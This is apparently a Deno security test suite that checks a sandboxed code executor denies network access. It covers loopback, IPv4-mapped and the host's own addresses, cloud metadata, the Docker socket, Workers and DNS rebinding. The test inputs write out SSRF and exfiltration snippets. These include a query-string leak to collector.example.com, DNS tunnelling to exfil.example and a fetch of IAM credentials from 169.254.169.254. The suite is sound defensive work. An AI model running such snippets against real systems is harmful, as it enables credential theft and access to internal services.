// Security suite, network: exfiltration and SSRF attempts against the host's
// canary listeners (bound to every IPv4 and IPv6 address of the host), with
// no grant and with `net: true` (which must still deny loopback, the host's
// own addresses, link-local and private ranges).

import { assertEquals } from "../_assert.ts";
import {
  assertHostUnaffected,
  expectContained,
  expectFailure,
  expectOutput,
  LIMITS,
  NODE_BUILTINS,
  startCanary,
  startSuite,
} from "./_harness.ts";

/** The host's own non-loopback addresses, as URL hosts (IPv6 bracketed). */
function hostAddresses(): { v4: string[]; v6: string[]; linkLocal: string[] } {
  const v4: string[] = [];
  const v6: string[] = [];
  const linkLocal: string[] = [];
  for (const i of Deno.networkInterfaces()) {
    if (i.family === "IPv4" && !i.address.startsWith("127.")) v4.push(i.address);
    if (i.family === "IPv6" && i.address !== "::1") {
      if (i.address.startsWith("fe80:")) linkLocal.push(`${i.address}%${i.name}`);
      else v6.push(`[${i.address}]`);
    }
  }
  return { v4: [...new Set(v4)], v6: [...new Set(v6)], linkLocal: [...new Set(linkLocal)] };
}

Deno.test("security: the network is denied without a grant", async (t) => {
  await using suite = await startSuite({ authorizedImports: NODE_BUILTINS });
  const { ex, canary } = suite;
  await ex.sendVariables({ port: canary.port });

  await t.step("fetch of a local admin service on 127.0.0.1 is denied net", async () => {
    await expectFailure(
      ex,
      `const res = await fetch(\`http://127.0.0.1:\${port}/admin/users\`, { headers: { accept: "application/json" } });
await res.json()`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("exfiltrating data in a query string to a remote host is denied net", async () => {
    await expectFailure(
      ex,
      `const loot = { cwd: Deno.cwd(), pid: Deno.pid };
await fetch("https://collector.example.com/c?d=" + encodeURIComponent(JSON.stringify(loot)));
"sent"`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("opening a WebSocket back to the host is denied net", async () => {
    await expectFailure(
      ex,
      `const ws = new WebSocket(\`ws://127.0.0.1:\${port}/rpc\`);
await new Promise((resolve, reject) => { ws.onopen = resolve; ws.onerror = reject; });
ws.send("hello");`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("a raw TCP connection with Deno.connect is denied net", async () => {
    await expectFailure(
      ex,
      `const conn = await Deno.connect({ hostname: "127.0.0.1", port });
await conn.write(new TextEncoder().encode("GET / HTTP/1.0\\r\\n\\r\\n"));
conn.close();`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("node:http and node:net requests to the host are denied net", async () => {
    await expectFailure(
      ex,
      `const http = process.getBuiltinModule("node:http");
await new Promise((resolve, reject) => {
  http.get(\`http://127.0.0.1:\${port}/\`, (res) => resolve(res.statusCode)).on("error", reject);
})`,
      { kind: "permission", permission: "net" },
    );
    await expectFailure(
      ex,
      `const net = process.getBuiltinModule("node:net");
await new Promise((resolve, reject) => {
  const s = net.connect({ host: "127.0.0.1", port }, () => { s.end(); resolve("connected"); });
  s.on("error", reject);
})`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("starting a server with Deno.listen or Deno.serve is denied net", async () => {
    await expectFailure(
      ex,
      `const listener = Deno.listen({ port: 0 });\nlistener.addr`,
      { kind: "permission", permission: "net" },
    );
    await expectFailure(
      ex,
      `Deno.serve({ port: 8000 }, (req) => new Response("backdoor: " + req.url));\n"listening"`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("DNS resolution with Deno.resolveDns is denied net", async () => {
    await expectFailure(ex, `await Deno.resolveDns("localhost", "A")`, {
      kind: "permission",
      permission: "net",
    });
    await expectFailure(
      ex,
      `// Tunnel data out through a DNS query to a server of our choice.
const label = btoa("cwd=" + Deno.cwd()).replace(/=/g, "").slice(0, 60);
await Deno.resolveDns(\`\${label}.exfil.example\`, "TXT", { nameServer: { ipAddr: "127.0.0.1", port } })`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("DNS resolution through node:dns is denied net", async () => {
    // Regression (finding F3): used to be typed runtime ("getaddrinfo EPERM").
    await expectFailure(
      ex,
      `const dns = process.getBuiltinModule("node:dns");\nawait dns.promises.lookup("example.com")`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("connecting to the Docker socket is denied", async () => {
    await expectFailure(
      ex,
      `const conn = await Deno.connect({ transport: "unix", path: "/var/run/docker.sock" });
await conn.write(new TextEncoder().encode("GET /containers/json HTTP/1.0\\r\\n\\r\\n"));`,
      { kind: "permission", permission: "read" },
    );
    await suite.check();
  });
});

Deno.test("security: net: true still denies loopback, private and the host's own addresses", async (t) => {
  await using suite = await startSuite({
    permissions: { net: true },
    authorizedImports: NODE_BUILTINS,
  });
  const { ex, canary } = suite;
  await ex.sendVariables({ port: canary.port, port6: canary.port6 });
  const fetchText = (host: string, portVar = "port") =>
    `const res = await fetch(\`http://${host}:\${${portVar}}/\`);\nawait res.text()`;

  for (const host of ["127.0.0.1", "0.0.0.0", "127.0.0.2", "127.1", "2130706433", "0x7f000001"]) {
    await t.step(`fetch of http://${host}:port/ is denied net`, async () => {
      await expectFailure(ex, fetchText(host), { kind: "permission", permission: "net" });
      await suite.check();
    });
  }

  for (const host of ["[::1]", "[0:0:0:0:0:0:0:1]", "[::]"]) {
    await t.step(`fetch of http://${host}:port/ is denied net`, async () => {
      await expectFailure(ex, fetchText(host, "port6"), { kind: "permission", permission: "net" });
      await suite.check();
    });
  }

  for (
    const host of [
      "[::ffff:127.0.0.1]",
      "[::ffff:7f00:1]",
      "[::ffff:127.0.0.2]",
      "[::ffff:0.0.0.0]",
    ]
  ) {
    await t.step(`fetch of the IPv4-mapped http://${host}:port/ is denied net`, async () => {
      await expectFailure(ex, fetchText(host), { kind: "permission", permission: "net" });
      await suite.check();
    });
  }

  await t.step("fetch of http://localhost:port/ is denied net after resolution", async () => {
    // Regression (finding F3): blocked, but used to be typed runtime ("fetch failed").
    await expectFailure(ex, fetchText("localhost"), { kind: "permission", permission: "net" });
    await suite.check();
  });

  await t.step("Deno.connect and node:net to localhost are denied net", async () => {
    await expectFailure(
      ex,
      `const conn = await Deno.connect({ hostname: "localhost", port });\nconn.close();`,
      { kind: "permission", permission: "net" },
    );
    await expectFailure(
      ex,
      `const net = process.getBuiltinModule("node:net");
await new Promise((resolve, reject) => {
  const s = net.connect(port, "localhost", () => { s.end(); resolve("connected"); });
  s.on("error", reject);
})`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("a Worker asking for loopback cannot escalate past the deny list", async () => {
    await expectFailure(
      ex,
      `const src = \`const r = await fetch("http://127.0.0.1:\${port}/"); postMessage(await r.text());\`;
const url = URL.createObjectURL(new Blob([src], { type: "text/javascript" }));
const w = new Worker(url, { type: "module", deno: { permissions: { net: [\`127.0.0.1:\${port}\`] } } } as any);
await new Promise((resolve) => (w.onmessage = (e) => resolve(e.data)))`,
      { kind: "permission", permission: undefined },
    );
    await suite.check();
  });

  await t.step("Workers granted net: true or inherit still get the deny list", async () => {
    const out = await expectOutput(
      ex,
      `const src = \`try { const r = await fetch("http://127.0.0.1:\${port}/"); postMessage(await r.text()); } catch (e) { postMessage(e.name); }\`;
const url = URL.createObjectURL(new Blob([src], { type: "text/javascript" }));
const results: unknown[] = [];
for (const permissions of [{ net: true }, "inherit"]) {
  const w = new Worker(url, { type: "module", deno: { permissions } } as any);
  results.push(await new Promise((resolve) => (w.onmessage = (e) => resolve(e.data))));
  w.terminate();
}
const { Worker: NodeWorker } = process.getBuiltinModule("node:worker_threads");
const nw = new NodeWorker(\`const { parentPort } = require("node:worker_threads");
fetch("http://127.0.0.1:\${port}/").then((r) => r.text()).then((t) => parentPort.postMessage(t), (e) => parentPort.postMessage(e.name));\`, { eval: true });
results.push(await new Promise((resolve) => nw.on("message", resolve)));
await nw.terminate();
results`,
    );
    assertEquals(out.output, ["NotCapable", "NotCapable", "NotCapable"]);
    await suite.check();
  });

  await t.step("a DNS query to a name server on loopback is denied net", async () => {
    await expectFailure(
      ex,
      `await Deno.resolveDns("secrets.exfil.example", "A", { nameServer: { ipAddr: "127.0.0.1", port } })`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("the cloud metadata address 169.254.169.254 is denied net", async () => {
    await expectFailure(
      ex,
      `const res = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
await res.text()`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  await t.step("a listener on all interfaces is denied net", async () => {
    await expectFailure(
      ex,
      `Deno.serve({ port: 0, onListen() {} }, () => new Response("shell"));\n"up"`,
      { kind: "permission", permission: "net" },
    );
    await suite.check();
  });

  const own = hostAddresses();
  await t.step({
    name: "the host's own IPv4 addresses do not reach a host service bound to all interfaces",
    ignore: own.v4.length === 0,
    fn: async () => {
      // Regression (finding F1): only loopback and private ranges used to be denied.
      for (const address of own.v4) {
        await expectFailure(ex, fetchText(address), { kind: "permission", permission: "net" });
        await expectFailure(ex, fetchText(`[::ffff:${address}]`), {
          kind: "permission",
          permission: "net",
        });
      }
      await suite.check();
    },
  });

  await t.step({
    name: "the host's own IPv6 and link-local addresses do not reach a host service",
    ignore: own.v6.length + own.linkLocal.length === 0,
    fn: async () => {
      // Regression (finding F1): only loopback and private ranges used to be denied.
      for (const address of own.v6) {
        await expectFailure(ex, fetchText(address, "port6"), {
          kind: "permission",
          permission: "net",
        });
      }
      for (const address of own.linkLocal) {
        await expectFailure(
          ex,
          `const conn = await Deno.connect({ hostname: ${JSON.stringify(address)}, port: port6 });
conn.close();`,
          { kind: "permission", permission: "net" },
        );
      }
      await suite.check();
    },
  });

  await t.step({
    name: "a listener on the host's own address is denied net",
    ignore: own.v4.length === 0,
    fn: async () => {
      // Regression (finding F1): only loopback and private ranges used to be denied.
      await expectFailure(
        ex,
        `const l = Deno.listen({ hostname: ${JSON.stringify(own.v4[0])}, port: 0 });
const { port: p } = l.addr as Deno.NetAddr;
l.close();
p`,
        { kind: "permission", permission: "net" },
      );
      await suite.check();
    },
  });
});

Deno.test("security: loopback is reachable only at the host:port the user listed", async (t) => {
  const allowed = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const allowedPort = (allowed.addr as Deno.NetAddr).port;
  const served = (async () => {
    for await (const conn of allowed) {
      await conn.read(new Uint8Array(4096)).catch(() => null);
      await conn.write(
        new TextEncoder().encode(
          "HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok",
        ),
      ).catch(() => 0);
      conn.close();
    }
  })();
  try {
    await using suite = await startSuite({ permissions: { net: [`127.0.0.1:${allowedPort}`] } });
    const { ex, canary } = suite;
    await ex.sendVariables({ allowedPort, port: canary.port });

    await t.step("the listed 127.0.0.1:port answers", async () => {
      const out = await expectOutput(
        ex,
        `await (await fetch(\`http://127.0.0.1:\${allowedPort}/\`)).text()`,
      );
      assertEquals(out.output, "ok");
      await suite.check();
    });

    await t.step("another port on 127.0.0.1 is denied net", async () => {
      await expectFailure(ex, `await fetch(\`http://127.0.0.1:\${port}/\`)`, {
        kind: "permission",
        permission: "net",
      });
      await suite.check();
    });
  } finally {
    allowed.close();
    await served;
  }
});

Deno.test("security: UDP through node:dgram has no transport and is contained by the timeout", async () => {
  // Deno 2.9.6 gives node:dgram no working socket without --unstable-net: the
  // send callback never runs, so the step ends at the timeout, nothing is sent.
  await expectContained(
    { ...LIMITS, permissions: { net: true }, authorizedImports: NODE_BUILTINS },
    `const dgram = process.getBuiltinModule("node:dgram");
const socket = dgram.createSocket("udp4");
try {
  await new Promise((resolve, reject) =>
    socket.send("exfil over DNS port", 53, "127.0.0.1", (e) => (e ? reject(e) : resolve("sent")))
  );
} finally {
  socket.close();
}`,
    { kind: "timeout" },
  );
});

/** A name other than localhost that /etc/hosts maps to loopback (stands in for DNS rebinding). */
function loopbackAlias(): string | undefined {
  let hosts = "";
  try {
    hosts = Deno.readTextFileSync("/etc/hosts");
  } catch {
    return undefined;
  }
  for (const line of hosts.split("\n")) {
    const [ip, ...names] = line.replace(/#.*/, "").trim().split(/\s+/);
    if (!ip?.startsWith("127.")) continue;
    const alias = names.find((n) =>
      n && !/^(localhost|ip6-\w+)$/.test(n) && !n.includes("localhost")
    );
    if (alias) return alias;
  }
  return undefined;
}

const alias = loopbackAlias();
Deno.test({
  name: "security: an allowed hostname that resolves to loopback (DNS rebinding) is denied net",
  ignore: alias === undefined,
  fn: async (t) => {
    // Regression (finding F11). The user allowed a *name*; its
    // address turning out to be 127.0.0.1 must not open the host's loopback.
    await using canary = await startCanary();
    await using suite = await startSuite({ permissions: { net: [`${alias}:${canary.port}`] } });
    await suite.ex.sendVariables({ alias: alias!, port: canary.port });
    await t.step("fetch of the allowed name is denied once it resolves to loopback", async () => {
      await expectFailure(suite.ex, `await (await fetch(\`http://\${alias}:\${port}/\`)).text()`, {
        kind: "permission",
        permission: "net",
      });
      await assertHostUnaffected(canary);
    });
  },
});
